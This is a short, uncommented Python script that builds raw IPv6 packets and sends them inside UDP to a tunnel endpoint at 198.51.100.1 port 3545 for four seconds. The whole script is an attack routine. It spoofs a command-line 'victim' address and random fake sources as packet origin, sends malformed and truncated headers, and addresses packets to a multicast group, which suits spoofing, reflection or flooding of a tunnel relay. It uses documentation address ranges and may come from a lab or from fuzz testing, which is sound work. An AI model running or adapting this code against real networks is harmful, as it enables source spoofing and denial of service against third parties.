import os, socket, struct, time, ipaddress, sys
victim = ipaddress.IPv6Address(sys.argv[1]).packed
native = ipaddress.IPv6Address('2001:db8:1::80').packed
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def v6(src, dst, payload=b'', nh=59): return struct.pack('!IHBB', 0x60000000, len(payload), nh, 64) + src + dst + payload
end = time.time() + 4; n = 0
while time.time() < end:
    fake = b'\x20\x01\x00\x00' + os.urandom(12)
    for b in (v6(victim, native, os.urandom(40), 17), v6(fake, native, os.urandom(20), 17), v6(fake, victim),
              os.urandom(n % 60), v6(victim, native)[:30], v6(victim, b'\xff\x02' + bytes(13) + b'\x01')):
        s.sendto(b, ('198.51.100.1', 3545)); n += 1
print('sent', n)
